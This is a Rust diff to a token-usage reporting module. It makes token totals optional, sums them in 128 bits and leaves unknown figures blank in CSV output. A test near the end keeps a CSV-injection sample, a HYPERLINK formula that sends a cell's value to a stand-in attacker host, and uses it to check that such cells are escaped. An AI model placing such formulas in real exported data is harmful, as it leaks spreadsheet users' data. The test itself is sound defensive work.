@@ -89,11 +89,13 @@ pub struct UsageRow {
     /// Runs, chats or account events in the group, and how many of them have token figures.
     pub items: u64,
     pub with_tokens: u64,
-    pub input: i64,
-    pub output: i64,
-    pub cache_read: i64,
-    pub cache_write: i64,
-    pub tokens: i64,
+    /// The group's tokens: `null` when nothing in it has figures (a chat Cursor recorded none
+    /// for spent an unknown amount, not zero).
+    pub input: Option<i64>,
+    pub output: Option<i64>,
+    pub cache_read: Option<i64>,
+    pub cache_write: Option<i64>,
+    pub tokens: Option<i64>,
     /// US dollars: Cursor's figures where it gave them, else estimated from the price table;
     /// absent when nothing in the group has either.
     #[ts(optional)]
@@ -250,8 +252,8 @@ pub fn report(t: &Tether, q: &UsageQuery) -> Result<UsageReport> {
     // Each item's cost is worked out once (a model's price looked up once per report), then added
     // to its group and its source's total; group keys borrow what they can from the items.
     let mut priced: HashMap<&str, Option<&super::prices::Price>> = HashMap::new();
-    let mut groups: HashMap<(&'static str, Vec<Cow<'_, str>>), UsageRow> = HashMap::new();
-    let mut totals: BTreeMap<&'static str, UsageRow> = BTreeMap::new();
+    let mut groups: HashMap<GroupKey<'_>, (UsageRow, Sums)> = HashMap::new();
+    let mut totals: BTreeMap<&'static str, (UsageRow, Sums)> = BTreeMap::new();
     let cache_reads = settings.count_cache_reads;
     for it in &items {
         let cost = match (&it.usage, it.cost) {
@@ -263,20 +265,27 @@ pub fn report(t: &Tether, q: &UsageQuery) -> Result<UsageReport> {
             (None, None) => Cost::Unpriced,
         };
         let keys: Vec<Cow<'_, str>> = by.iter().map(|d| key(it, *d)).collect();
-        let row = groups.entry((it.source, keys)).or_insert_with_key(|(source, keys)| UsageRow {
-            source: (*source).into(),
-            keys: keys.iter().map(|k| k.to_string()).collect(),
-            ..Default::default()
+        let row = groups.entry((it.source, keys)).or_insert_with_key(|(source, keys)| {
+            (
+                UsageRow {
+                    source: (*source).into(),
+                    keys: keys.iter().map(|k| k.to_string()).collect(),
+                    ..Default::default()
+                },
+                Sums::default(),
+            )
         });
         add(row, it, cost, cache_reads);
         add(
-            totals.entry(it.source).or_insert_with(|| UsageRow { source: it.source.into(), ..Default::default() }),
+            totals
+                .entry(it.source)
+                .or_insert_with(|| (UsageRow { source: it.source.into(), ..Default::default() }, Sums::default())),
             it,
             cost,
             cache_reads,
         );
     }
-    let mut rows: Vec<UsageRow> = groups.into_values().collect();
+    let mut rows: Vec<UsageRow> = groups.into_values().map(Sums::finish).collect();
     rows.sort_by(|a, b| a.source.cmp(&b.source).then_with(|| a.keys.cmp(&b.keys)));
     if by.iter().any(|d| matches!(d, Dim::Task | Dim::Run | Dim::Agent)) {
         rows.sort_by(|a, b| {
@@ -293,7 +302,7 @@ pub fn report(t: &Tether, q: &UsageQuery) -> Result<UsageReport> {
         to: to.to_string(),
         by,
         rows,
-        totals: totals.into_values().collect(),
+        totals: totals.into_values().map(Sums::finish).collect(),
         coverage,
         prices_as_of: prices.as_of,
         prices_source: prices.source,
@@ -344,23 +353,55 @@ enum Cost {
     Unpriced,
 }
 
-fn add(row: &mut UsageRow, it: &Item<'_>, cost: Cost, cache_reads: bool) {
+/// A group: its source and its keys, one per `by`.
+type GroupKey<'a> = (&'static str, Vec<Cow<'a, str>>);
+
+/// A group's token sums while items are added, in 128 bits: figures come from outside (a run's
+/// CLI, Cursor's stores, an imported file) and their sum must never wrap round to a negative.
+#[derive(Default)]
+struct Sums {
+    input: i128,
+    output: i128,
+    cache_read: i128,
+    cache_write: i128,
+    tokens: i128,
+    unpriced: i128,
+}
+
+impl Sums {
+    /// The row with its sums, each absent when nothing in the group has figures; a sum past
+    /// `i64` (only figures no real spend reaches) stays at its largest value.
+    fn finish((mut row, s): (UsageRow, Sums)) -> UsageRow {
+        let fit = |v: i128| i64::try_from(v).unwrap_or(if v < 0 { i64::MIN } else { i64::MAX });
+        let known = row.with_tokens > 0;
+        let some = |v: i128| known.then(|| fit(v));
+        (row.input, row.output, row.cache_read, row.cache_write, row.tokens) =
+            (some(s.input), some(s.output), some(s.cache_read), some(s.cache_write), some(s.tokens));
+        row.unpriced_tokens = fit(s.unpriced);
+        row
+    }
+}
+
+fn add((row, sums): &mut (UsageRow, Sums), it: &Item<'_>, cost: Cost, cache_reads: bool) {
     row.items += 1;
     row.matched_by_time += u64::from(it.by_time);
     let Some(u) = &it.usage else { return };
     row.with_tokens += 1;
-    row.input += u.input_tokens;
-    row.output += u.output_tokens;
-    row.cache_read += u.cache_read_tokens;
-    row.cache_write += u.cache_write_tokens;
-    row.tokens += u.total(cache_reads);
+    let [input, output, cache_read, cache_write] =
+        [u.input_tokens, u.output_tokens, u.cache_read_tokens, u.cache_write_tokens].map(i128::from);
+    let total = input + output + cache_write + if cache_reads { cache_read } else { 0 };
+    sums.input += input;
+    sums.output += output;
+    sums.cache_read += cache_read;
+    sums.cache_write += cache_write;
+    sums.tokens += total;
     match cost {
         Cost::Given(c) => row.cost_usd = Some(row.cost_usd.unwrap_or(0.0) + c),
         Cost::Estimated(c) => {
             row.cost_usd = Some(row.cost_usd.unwrap_or(0.0) + c);
             row.cost_estimated = true;
         }
-        Cost::Unpriced => row.unpriced_tokens += u.total(cache_reads),
+        Cost::Unpriced => sums.unpriced += total,
     }
 }
 
@@ -530,17 +571,11 @@ pub fn to_csv(r: &UsageReport) -> String {
     for row in &r.rows {
         let mut cells = vec![row.source.clone()];
         cells.extend(row.keys.iter().cloned());
+        cells.extend([row.items, row.with_tokens].map(|n| n.to_string()));
+        // An absent figure is an empty cell, as an absent cost is: never a zero.
         cells.extend(
-            [
-                row.items as i64,
-                row.with_tokens as i64,
-                row.input,
-                row.output,
-                row.cache_read,
-                row.cache_write,
-                row.tokens,
-            ]
-            .map(|n| n.to_string()),
+            [row.input, row.output, row.cache_read, row.cache_write, row.tokens]
+                .map(|n| n.map(|n| n.to_string()).unwrap_or_default()),
         );
         cells.push(row.cost_usd.map(|c| format!("{c:.4}")).unwrap_or_default());
         cells.push(row.cost_estimated.to_string());
@@ -612,7 +647,8 @@ mod tests {
 
     #[test]
     fn csv_cells_that_a_spreadsheet_would_run_are_given_back_as_text() {
-        let keys = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "gpt-5", "a,b"];
+        let keys =
+            ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "gpt-5", "a,b"];
         let r = UsageReport {
             from: "2026-03-01".into(),
             to: "2026-03-01".into(),
